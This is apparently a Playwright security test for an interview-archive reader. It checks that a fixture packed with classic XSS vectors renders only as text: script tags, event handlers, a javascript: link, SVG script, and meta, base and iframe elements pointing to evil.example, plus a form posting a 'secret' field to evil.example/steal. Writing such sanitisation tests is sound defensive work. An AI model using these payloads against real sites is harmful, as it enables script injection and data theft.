import { expect, test } from '@playwright/test';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { copyArchive, serveArchive, type ServedArchive } from './support/host';

// An interview file crafted to run code the moment it is shown: every classic XSS vector.
const HOSTILE = `<!doctype html><html><head>
<title>Hostile interview</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<script>window.__pwned = 'script'; alert('script')</script>
</head><body onload="window.__pwned='onload'">
<p>Q: Who guarded the camp?</p>
<p>A: The <b>Americans</b> guarded Camp Ashraf.<img src="x" onerror="window.__pwned='onerror'"></p>
<p><a href="javascript:window.__pwned='link'">a link that runs code</a></p>
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<form action="https://evil.example/steal"><input name="q" value="secret"></form>
<iframe src="https://evil.example/frame"></iframe>
<img src="https://evil.example/pixel.png">
<noscript><p>noscript text</p></noscript>
<p>&lt;img src=x onerror="window.__pwned='escaped'"&gt; as text</p>
</body></html>`;

let host: ServedArchive;
test.beforeAll(async () => {
  const archive = copyArchive();
  writeFileSync(join(archive, 'hostile.html'), HOSTILE);
  host = await serveArchive(archive);
});
test.afterAll(async () => host.stop());

test('an interview full of scripts, handlers and javascript: links is shown as text and runs nothing', async ({ page }) => {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(host.origin)) foreign.push(request.url());
  });
  await page.goto(host.url);
  await page.getByRole('list', { name: 'Interviews' }).getByRole('button', { name: /Hostile interview/ }).click();
  const reader = page.getByRole('article');
  await expect(reader).toContainText('The Americans guarded Camp Ashraf.');
  await expect(reader).toContainText('a link that runs code');
  await expect(reader).toContainText('<img src=x onerror=');
  await expect(reader).not.toContainText('window.__pwned = ');

  // Nothing from the document became live markup.
  expect(await reader.locator('script, img, svg, iframe, form, a, base, meta, link').count()).toBe(0);
  await reader.getByText('a link that runs code').click();
  await page.waitForTimeout(300);

  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  expect(page.url().startsWith(host.origin)).toBe(true);
});
